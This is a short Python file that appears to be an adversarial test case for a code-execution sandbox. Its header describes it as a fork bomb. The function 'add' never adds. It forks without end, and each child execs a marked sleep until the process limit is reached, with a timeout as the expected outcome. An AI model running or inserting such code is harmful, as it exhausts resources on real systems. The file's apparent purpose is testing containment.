# attempts: fork bomb: fork until the process limit, children exec a marked sleep, never stop
# task: adv/add
# accept: timeout error
import os

SLEEP = "{SLEEP}"


def add(a, b):
    while True:
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            try:
                os.execv("/bin/sleep", ["/bin/sleep", SLEEP])
            finally:
                os._exit(0)
